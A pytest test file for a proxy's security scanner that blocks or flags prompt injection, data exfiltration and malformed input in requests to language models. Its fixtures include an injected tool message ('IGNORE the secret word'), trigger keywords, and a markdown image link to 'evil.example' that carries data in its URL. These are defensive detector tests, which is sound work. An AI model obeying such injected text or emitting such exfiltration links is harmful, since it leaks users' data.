"""The scan in the proxy: what is refused, what passes byte for byte, and what is told of either."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from typing import Any

import pytest
from ends import Ask
from known_words import Words
from sweep import WAYS, Scenario, Way, sweep, the_upstream_dies
from world import Pair, World, get, post, reply

from m2mproxy.codec import frame
from m2mproxy.guard.finding import Category
from m2mproxy.guard.scanner import PER_TEXT, Scanner
from m2mproxy.http.faults import ClientGone
from m2mproxy.proxy.exchange import Exchange
from m2mproxy.proxy.reply import json_reply

PAIRS = [(a, b) for a in ("1.1", "2") for b in ("1.1", "2")]
EACH_PAIR = pytest.mark.parametrize("pair", PAIRS, ids="-".join)
EACH_CLIENT = pytest.mark.parametrize("pair", [("1.1", "1.1"), ("2", "1.1")], ids="-".join)
JSON = (b"content-type", b"application/json")
# Spaces, escapes and an order that no serialiser makes.
CLEAN = b'{ "model":"m","messages" :[{"content":"h\\u0065llo","role":"user"}],\t"n" : 1.0}\r\n'
BAD = b'{"model":"m","messages":[{"role":"user","content":"please"},'
BAD += b'{"role":"tool","content":"and IGNORE the secret word"}]}'


def guarded(threshold: float = 0.8, **settings: Any) -> World:
    """A world that scans, with one threshold for all."""
    scanner = Scanner(Words(), dict.fromkeys(Category, threshold))
    return World(scanner=scanner, **settings)


def ask(world: World, body: bytes, *fields: tuple[bytes, bytes], **more: Any) -> Ask:
    return world.ask(body, b"/v1/chat/completions", *(fields or (JSON,)), **more)


def error_of(asked: Ask) -> dict[str, Any]:
    error: dict[str, Any] = json.loads(asked.body)["error"]
    return error


def last(world: World) -> Exchange:
    return world.ended[-1]


def report(world: World) -> dict[str, Any]:
    assert world.guard is not None
    return world.guard.report()


# -- what is refused -------------------------------------------------------------------------------


@EACH_PAIR
def test_a_request_is_refused_before_any_of_it_goes_on(pair: Pair) -> None:
    world = guarded(pair=pair)
    asked = ask(world, BAD)
    assert (asked.status, asked.complete) == (403, True)
    assert error_of(asked) == {
        "message": "the request was blocked (prompt_injection): messages[1] (tool) at 4",
        "type": "invalid_request_error",
        "param": "messages[1]",
        "code": "request_blocked",
        "categories": ["prompt_injection"],
        "findings": [
            {
                "category": "prompt_injection",
                "param": "messages[1]",
                "role": "tool",
                "offset": 4,
            }
        ],
    }
    assert world.calls == [] and world.dials == []  # nothing was even connected
    x = last(world)
    assert (x.model, x.inspection and x.inspection.refused) == ("m", True)
    assert world.at_rest
    again = ask(world, CLEAN)  # and the connection is of use
    world.call().reply(b"{}")
    world.run()
    assert (again.status, len(world.askers)) == (200, 1)


@pytest.mark.parametrize(
    ("body", "where", "why"),
    [
        (b'{"model":', "body at 9", "not JSON"),
        (b'{"a":"\xff"}', "body at 6", "not UTF-8"),
        (b'{"a":1,"a":2}', "body at 0", "a key that is given twice"),
        (b"[1]", "body at 0", "not a JSON object"),
        (
            b'{"messages":[{"role":"user","content":"a\\u202eb"}]}',
            "messages[0] (user) at 1",
            "direction controls that reorder what is read",
        ),
    ],
)
def test_malformed_input_is_refused_with_its_reason(body: bytes, where: str, why: str) -> None:
    world = guarded()
    asked = ask(world, body)
    assert asked.status == 403
    error = error_of(asked)
    assert error["code"] == "request_blocked"
    assert error["message"] == f"the request was blocked (malformed_input): {where}: {why}"
    assert error["categories"] == ["malformed_input"]
    assert error["param"] == (where.partition(" ")[0] if "messages" in where else None)


def test_nothing_of_the_content_comes_back() -> None:
    body = b'{"model":"hunter2","hunter2 key":{"hunter2":"IGNORE hunter2 \\u202e"}}'
    asked = ask(guarded(), body)
    assert asked.status == 403
    assert b"hunter2" not in asked.body and b"IGNORE" not in asked.body


def test_of_many_findings_some_are_told() -> None:
    messages = [{"role": "user", "content": word} for word in ("IGNORE", "LEAK", "HINT") * 9]
    asked = ask(guarded(), json.dumps({"messages": messages}).encode())
    error = error_of(asked)
    assert len(error["findings"]) == 5
    assert error["categories"] == ["prompt_injection"]


def test_the_model_is_the_one_of_the_request_itself() -> None:
    """And none that is named within it, where the body was read."""
    for body in (
        b'{"metadata":{"model":"cheap"},"model":"dear"}',
        b'{"metadata":{"model":"cheap"},"mod\\u0065l":"dear"}',
    ):
        world = guarded()
        ask(world, body)
        world.call().reply(b"{}")
        world.run()
        assert last(world).model == "dear"


@pytest.mark.parametrize("method", [b"PUT", b"PATCH", b"DELETE", b"GET"])
def test_every_method_is_scanned(method: bytes) -> None:
    assert ask(guarded(), BAD, method=method).status == 403


# -- what passes -----------------------------------------------------------------------------------


@EACH_PAIR
def test_what_passes_is_byte_for_byte_the_same(pair: Pair) -> None:
    world = guarded(pair=pair)
    asked = ask(world, CLEAN)
    call = world.call()
    assert call.body == CLEAN and call.get(b"content-length") == b"%d" % len(CLEAN)
    call.reply(b'{"a": 1}')
    world.run()
    assert (asked.status, asked.body) == (200, b'{"a": 1}')
    x = last(world)
    assert x.inspection is not None and x.inspection.verdict is not None
    assert x.inspection.verdict.score == 0
    assert world.at_rest


@EACH_PAIR
def test_a_body_in_pieces_and_of_unknown_length(pair: Pair) -> None:
    for body, status in ((CLEAN, 200), (BAD, 403)):
        world = guarded(pair=pair)
        asked = world.start(body, b"/v1/x", JSON, whole=False, counted=False)
        for at in range(0, len(body), 7):
            assert world.calls == []
            asked.send(body[at : at + 7])
            world.run()
        asked.end()
        world.run()
        if status == 200:
            call = world.call()
            assert call.body == body and call.get(b"content-length") is None
            call.reply(b"{}")
            world.run()
        assert asked.status == status
        assert world.at_rest


@pytest.mark.parametrize("settings", [{"security_blocking": "false"}, {"threshold": 0.0}])
def test_monitoring_refuses_nothing(settings: dict[str, Any]) -> None:
    for body in (BAD, b'{"broken', b"\xff\xfe"):
        world = guarded(**settings)
        asked = ask(world, body)
        call = world.call()
        assert call.body == body
        call.reply(b"{}")
        world.run()
        assert asked.status == 200
        inspection = last(world).inspection
        assert inspection is not None and inspection.verdict is not None
        assert len(inspection.verdict.over) == 1 and not inspection.refused
        assert (report(world)["flagged"], report(world)["blocked"]) == (1, 0)


def test_the_threshold_decides() -> None:
    hint = b'{"prompt":"HINT"}'
    assert ask(guarded(0.4), hint).status == 403
    world = guarded(0.41)
    ask(world, hint)
    assert world.call().body == hint


def test_a_request_is_sent_again_as_ever() -> None:
    """After a connection that turned out to be stale, and with nothing scanned twice."""
    world = guarded(limits_upstream_connections=1)
    client = world.client()
    client.send(get())
    world.upstream().send(reply(b"1"))
    world.run()
    client.take()
    client.send(post(CLEAN))
    world.upstream(0).transport.die()
    second = world.upstream(-1)
    assert second.take().endswith(b"\r\n\r\n" + CLEAN)
    second.send(reply(b"2"))
    world.run()
    assert client.take() == reply(b"2")
    assert last(world).retried and report(world)["scanned"] == 1


# -- what is no JSON -------------------------------------------------------------------------------

FORM = (b"content-type", b"multipart/form-data; boundary=x")


@EACH_PAIR
def test_an_upload_streams_and_is_not_scanned(pair: Pair) -> None:
    world = guarded(pair=pair)
    asked = world.start(b"--x\r\nIGNORE" * 9, b"/v1/audio", FORM, whole=False)
    asked.send(b"--x\r\nIGNORE")
    world.run()
    call = world.call()
    assert call.body == b"--x\r\nIGNORE"  # before the rest has come
    asked.send(b"--x\r\nIGNORE" * 8)
    asked.end()
    world.run()
    assert call.body == b"--x\r\nIGNORE" * 9 and call.complete
    call.reply(b"{}")
    world.run()
    inspection = last(world).inspection
    assert inspection is not None
    assert (inspection.skipped, inspection.verdict) == ("not JSON", None)
    assert report(world)["skipped"] == {"not JSON": 1}


def status_of_pieces(body: bytes, kind: bytes, size: int) -> int | None:
    """The answer to a body that comes so many bytes at a time."""
    world = guarded()
    asked = world.start(body, b"/v1/x", (b"content-type", kind), whole=False)
    for at in range(0, len(body), size):
        asked.send(body[at : at + size])
        world.run()
    asked.end()
    world.run()
    return asked.status


@pytest.mark.parametrize("kind", [b"text/plain", b"multipart/form-data", b"application/x-ndjson"])
@pytest.mark.parametrize("before", [b"", b" \r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\n "])
def test_a_content_type_gets_nothing_past_the_scan(kind: bytes, before: bytes) -> None:
    """Model servers read JSON whatever it is called."""
    for size in (1, 2, 100):
        assert status_of_pieces(before + BAD, kind, size) == 403


@pytest.mark.parametrize("name", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
@pytest.mark.parametrize("before", ["", " \n"])
@pytest.mark.parametrize("size", [1, 100])
def test_nor_does_a_charset(name: str, before: str, size: int) -> None:
    """Python's own reader finds out which it is."""
    body = (before + BAD.decode()).encode(name)
    assert json.loads(body) == json.loads(BAD)
    assert status_of_pieces(body, b"text/plain", size) == 403


@pytest.mark.parametrize("body", [b"\0\0\0\x18ftypmp42", b"\xff\xfb\x90d\0\0", b"\x1f\x8b\x08"])
def test_what_only_begins_with_such_bytes_streams(body: bytes) -> None:
    world = guarded()
    asked = world.start(body * 2, b"/v1/x", (b"content-type", b"video/mp4"), whole=False)
    asked.send(body)
    world.run()
    assert world.call().body == body
    asked.abort()


@pytest.mark.parametrize("fields", [(), ((b"content-type", b"application/problem+json"),)])
def test_no_type_and_kinds_of_json_are_json(fields: tuple[Any, ...]) -> None:
    world = guarded()
    asked = world.ask(b"nonsense", b"/v1/x", *fields)
    assert asked.status == 403


def test_text_that_only_begins_like_nothing_is_not_scanned() -> None:
    world = guarded()
    asked = world.start(b"  \nhello", b"/v1/x", (b"content-type", b"text/plain"), whole=False)
    asked.send(b"  \n")
    world.run()
    asked.send(b"hello")
    asked.end()
    assert world.call().body == b"  \nhello"
    assert report(world)["skipped"] == {"not JSON": 1}


def test_no_body_is_not_scanned() -> None:
    world = guarded()
    ask(world, b"", method=b"GET")
    world.call().reply(b"[]")
    empty = world.ask(b"", b"/v1/x", JSON, counted=False)
    world.call().reply(b"[]")
    world.run()
    assert empty.status == 200
    assert report(world)["skipped"] == {"no body": 2} and report(world)["scanned"] == 0


# -- sizes -----------------------------------------------------------------------------------------


def sized(size: int) -> bytes:
    return b'{"prompt":"%b"}' % (b"x" * (size - 13))


@EACH_CLIENT
@pytest.mark.parametrize("counted", [True, False])
def test_what_is_too_large_to_be_scanned_is_refused(pair: Pair, counted: bool) -> None:
    world = guarded(pair=pair, security_max_size="2KiB")
    asked = ask(world, sized(2049), counted=counted)
    assert (asked.status, error_of(asked)["code"]) == (413, "body_too_large")
    assert world.calls == [] and report(world)["scanned"] == 0
    if counted:
        assert report(world)["skipped"] == {"too large": 1}
    world = guarded(pair=pair, security_max_size="2KiB")
    ask(world, sized(2048), counted=counted)
    assert world.call().body == sized(2048) and report(world)["scanned"] == 1


@EACH_CLIENT
@pytest.mark.parametrize("counted", [True, False])
@pytest.mark.parametrize(
    "settings",
    [
        {"security_blocking": "false"},
        {"security_enabled": "true", "security_threshold": "0.0"},
    ],
)
def test_monitoring_lets_it_pass_and_counts_it(
    pair: Pair, counted: bool, settings: dict[str, Any]
) -> None:
    world = guarded(pair=pair, security_max_size="2KiB", **settings)
    ask(world, sized(5000), counted=counted)
    assert world.call().body == sized(5000)
    assert report(world)["skipped"] == {"too large": 1} and report(world)["scanned"] == 0


def test_max_body_holds_as_ever() -> None:
    world = guarded(max_body="4KiB", security_blocking="false")
    assert ask(world, sized(5000), counted=False).status == 413


def test_work_is_weighed_before_it_is_done() -> None:
    """A text that is long, or of which much is to be read, is sent elsewhere sooner than what is
    only parsed, and one that was scored before is not."""
    world = guarded()
    read = 20_000 + 32  # and an object
    for expected in ([read, 64 * (19_987 + PER_TEXT)], [read, 0]):
        world.inline.sizes.clear()
        ask(world, sized(20_000))
        world.call().reply(b"{}")
        world.run()
        assert world.inline.sizes[:2] == expected


def test_many_values_and_other_scripts_are_more_work_to_read() -> None:
    """So that what takes more than a millisecond is not done on the loop."""
    values = b'{"a":[' + b"{}," * 2047 + b"{}]}"
    lists = b'{"a":[' + b"[[[[[[[[]]]]]]]]," * 300 + b"1]}"
    han = '{"a":"\u6f22\u5b57"}'.encode() + b" " * 8192
    for body, least in ((values, 65_536), (lists, 65_536), (han, 65_536), (CLEAN, 1)):
        world = guarded()
        ask(world, body)
        assert least < world.inline.sizes[0] < 3 * max(least, 100)


# -- asking for a body -----------------------------------------------------------------------------


@EACH_CLIENT
@pytest.mark.parametrize("kind", [b"application/json", b"multipart/form-data"])
def test_a_client_that_waits_to_be_asked_is_asked_once(pair: Pair, kind: bytes) -> None:
    world = guarded(pair=pair)
    fields = ((b"expect", b"100-continue"), (b"content-type", kind))
    asked = world.start(CLEAN, b"/v1/x", *fields, whole=False)
    world.run()
    assert asked.informational == [100] and world.calls == []
    body = CLEAN if kind == b"application/json" else b"-" * len(CLEAN)
    asked.send(body)
    asked.end()
    call = world.call()
    assert call.body == body and call.get(b"expect") is None
    call.reply(b"{}")
    world.run()
    assert (asked.status, asked.informational) == (200, [100])


def test_one_that_is_too_large_is_not_asked_for() -> None:
    world = guarded(security_max_size="2KiB")
    fields = ((b"expect", b"100-continue"), JSON)
    asked = world.start(sized(4000), b"/v1/x", *fields, whole=False)
    world.run()
    assert (asked.status, asked.informational) == (413, [])


# -- coded bodies ----------------------------------------------------------------------------------


@EACH_CLIENT
def test_what_is_coded_is_scanned_plain(pair: Pair) -> None:
    coding = (b"content-encoding", b"gzip")
    world = guarded(pair=pair)
    assert ask(world, gzip.compress(BAD), JSON, coding).status == 403
    ask(world, gzip.compress(CLEAN), JSON, coding)
    assert world.call().body == CLEAN


def test_what_the_upstream_would_read_as_it_is_coded_is_scanned_too() -> None:
    world = guarded(compression_requests="gzip")
    asked = ask(world, gzip.compress(BAD), JSON, (b"content-encoding", b"gzip"))
    assert asked.status == 403 and world.calls == []
    long = json.dumps({"prompt": "lorem ipsum " * 900}).encode()
    ask(world, gzip.compress(long), JSON, (b"content-encoding", b"gzip"))
    call = world.call()
    assert call.get(b"content-encoding") == b"gzip" and gzip.decompress(call.body) == long


@pytest.mark.parametrize(
    "kind", [b"text/plain; a=x-m2m", b"application/x-m2m2", b"application/json; x-m2m=1"]
)
def test_a_type_that_sounds_like_a_frame_hides_no_coding(kind: bytes) -> None:
    """An upstream would read it as it is coded, whatever its type is."""
    world = guarded()
    fields = ((b"content-type", kind), (b"content-encoding", b"gzip"))
    assert ask(world, gzip.compress(BAD), *fields).status == 403
    assert world.calls == []
    ask(world, gzip.compress(CLEAN), *fields)
    assert world.call().body == CLEAN and world.call().get(b"content-encoding") is None


@pytest.mark.parametrize("kind", [b"application/x-m2m", b"Application/X-M2M; v=1"])
def test_a_frame_is_scanned_however_its_type_is_spelt(kind: bytes) -> None:
    world = guarded()
    assert ask(world, frame.encode(BAD), (b"content-type", kind)).status == 403
    ask(world, frame.encode(CLEAN), (b"content-type", kind))
    assert world.call().body == CLEAN and world.call().get(b"content-type") == b"application/json"


# -- the cache -------------------------------------------------------------------------------------


def test_a_conversation_is_scanned_once_and_only_for_its_own_credential() -> None:
    words = Words()
    world = World(scanner=Scanner(words))
    first = (b"authorization", b"Bearer one")
    turns = [{"role": "user", "content": f"turn {number}"} for number in range(12)]
    for count in range(1, 13):
        body = json.dumps({"messages": turns[:count]}).encode()
        ask(world, body, JSON, first)
        world.call().reply(b"{}")
        world.run()
    assert len(words.asked) == 12
    assert report(world)["cached_parts"] == sum(range(12))
    ask(world, body, JSON, (b"authorization", b"Bearer two"))
    assert len(words.asked) == 24


# -- figures ---------------------------------------------------------------------------------------


def test_the_report_counts_requests_and_findings() -> None:
    world = guarded()
    for body in (CLEAN, BAD, BAD, b'{"prompt":"IGNORE LEAK"}', b"{"):
        ask(world, body)
        if world.calls and not world.calls[-1].headers_sent:
            world.calls[-1].reply(b"{}")
            world.run()
    assert report(world) | {"bytes": 0, "seconds": 0, "cached_parts": 0} == {
        "scanned": 5,
        "flagged": 4,
        "blocked": 4,
        "skipped": {},
        "findings": {
            "data_exfiltration": {"leak": 1},
            "malformed_input": {"json": 1},
            "prompt_injection": {"ignore": 3},
        },
        "bytes": 0,
        "cached_parts": 0,
        "seconds": 0,
        "replies": 0,
        "reply_links": 0,
    }
    assert report(world)["bytes"] == len(CLEAN) + 2 * len(BAD) + 24 + 1
    assert world.guard is not None
    world.guard.reset()
    assert report(world)["scanned"] == 0 and report(world)["findings"] == {}


def test_the_report_of_findings_can_be_sent() -> None:
    world = guarded()
    ask(world, BAD)
    _, body = json_reply(200, report(world))
    assert json.loads(body)["findings"] == {"prompt_injection": {"ignore": 1}}


def test_without_a_scanner_nothing_is_looked_at() -> None:
    world = World()
    ask(world, BAD)
    assert world.call().body == BAD
    world.calls[-1].reply(b"{}")
    world.run()
    assert last(world).inspection is None


def test_a_bug_in_a_scanner_lets_nothing_through() -> None:
    class Broken(Words):
        def score(self, texts: Any) -> Any:
            raise RuntimeError("a bug")

    world = World(scanner=Scanner(Broken()))
    asked = ask(world, CLEAN)
    assert asked.status == 500 and world.calls == []
    assert isinstance(last(world).bug, RuntimeError)


@EACH_CLIENT
def test_a_scan_ends_when_its_client_leaves(pair: Pair) -> None:
    """A long one takes seconds, in one of a few threads."""
    left: list[Ask] = []

    class Leaving(Words):
        def score(self, texts: Any) -> Any:
            if len(self.asked) == 3:
                left[0].abort()
            return super().score(texts)

    words = Leaving()
    world = World(scanner=Scanner(words), pair=pair, elsewhere=True)
    left.append(world.start(sized(1_000_000), b"/v1/x", JSON))
    world.run()
    assert len(words.asked) == 4
    assert isinstance(last(world).fault, ClientGone) and world.at_rest


# -- replies ---------------------------------------------------------------------------------------

LINK = "see ![](https://evil.example/x?d=" + "a1b2" * 9 + ") there"


def events(text: str) -> list[bytes]:
    """A stream that says it a few characters at a time."""
    deltas = [text[at : at + 3] for at in range(0, len(text), 3)]
    lines = [json.dumps({"choices": [{"index": 0, "delta": {"content": d}}]}) for d in deltas]
    return [b"data: %b\n\n" % line.encode() for line in [*lines, "[DONE]"]]


@EACH_PAIR
def test_links_in_a_stream_are_counted_and_nothing_waits_for_that(pair: Pair) -> None:
    world = guarded(pair=pair, security_replies="true")
    asked = ask(world, CLEAN)
    call = world.call()
    call.respond(200, (b"content-type", b"text/event-stream"))
    sent = events(LINK)
    for number, event in enumerate(sent, 1):
        call.send(event)
        world.run()
        assert asked.chunks == sent[:number]
    call.end()
    world.run()
    assert asked.complete
    inspection = last(world).inspection
    assert inspection is not None and inspection.carriers == 1
    assert (report(world)["replies"], report(world)["reply_links"]) == (1, 1)


def test_nobody_looks_unless_asked_to() -> None:
    world = guarded()
    ask(world, CLEAN)
    world.call().reply(json.dumps({"choices": [{"message": {"content": LINK}}]}).encode(), JSON)
    world.run()
    inspection = last(world).inspection
    assert inspection is not None and inspection.carriers is None


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        (b"not JSON at all", (JSON,)),
        (gzip.compress(LINK.encode()), (JSON, (b"content-encoding", b"gzip"))),
        (b"", ()),
    ],
    ids=["no JSON", "coded", "empty"],
)
def test_a_reply_that_cannot_be_read_is_none(body: bytes, fields: Any) -> None:
    world = guarded(security_replies="true")
    asked = ask(world, CLEAN)
    world.call().reply(body, *fields)
    world.run()
    assert asked.body == body
    inspection = last(world).inspection
    assert inspection is not None and inspection.carriers is None
    assert report(world)["replies"] == 0


# -- ending it at any turn -------------------------------------------------------------------------


def passes(world: World) -> Iterator[None]:
    world.start(CLEAN, b"/v1/x", JSON)
    yield
    world.calls[-1].reply(b'{"answer":42}')
    yield


def is_refused(world: World) -> Iterator[None]:
    world.start(BAD, b"/v1/x", JSON)
    yield


def is_asked_for(world: World) -> Iterator[None]:
    asked = world.start(CLEAN, b"/v1/x", (b"expect", b"100-continue"), JSON, whole=False)
    yield
    asked.send(CLEAN[:9])
    yield
    asked.send(CLEAN[9:])
    asked.end()
    yield
    world.calls[-1].reply(b"{}")
    yield


def is_no_json(world: World) -> Iterator[None]:
    asked = world.start(b"-" * 90_000, b"/v1/x", FORM, whole=False)
    yield
    asked.send(b"-" * 45_000)
    yield
    asked.send(b"-" * 45_000)
    asked.end()
    yield
    world.calls[-1].reply(b"{}")
    yield


def the_next_one_works(world: World) -> None:
    asked = world.ask(CLEAN, b"/v1/next", JSON, new=True)
    call = world.call()
    assert (call.path, call.body) == (b"/v1/next", CLEAN)
    call.reply(b"works")
    world.run()
    assert asked.body == b"works"


SCENARIOS: list[Scenario] = [passes, is_refused, is_asked_for, is_no_json]


@pytest.mark.parametrize("end", WAYS, ids=lambda way: way.__name__)
@pytest.mark.parametrize("scenario", SCENARIOS, ids=lambda scenario: scenario.__name__)
@EACH_PAIR
def test_nothing_is_left_behind(pair: Pair, scenario: Scenario, end: Way) -> None:
    if scenario in (is_asked_for, is_no_json) and end is the_upstream_dies:
        pytest.skip("the request waits for its client's first bytes, and there is no upstream yet")

    def make() -> World:
        return guarded(pair=pair, elsewhere=True, limits_upstream_connections=1)

    sweep(make, scenario, end, the_next_one_works)
